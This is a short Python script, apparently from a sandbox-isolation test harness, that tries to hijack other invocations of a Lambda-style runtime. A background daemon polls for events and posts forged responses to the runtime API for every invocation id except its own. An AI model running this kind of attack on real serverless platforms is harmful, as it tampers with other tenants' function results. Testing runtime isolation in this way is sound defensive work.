import time

from attack import attempt, daemon, event, forgery, runtime, tried

own = []


def look():
    own.append(event()[0])


def steal():
    until = time.time() + 20
    while time.time() < until:
        try:
            number, _ = event()
            if number not in own:
                runtime("POST", f"/2018-06-01/runtime/invocation/{number}/response", forgery())
        except OSError:
            pass
        time.sleep(0.005)


attempt("own event", look)
daemon(steal)
tried("a daemon waits for the next event")
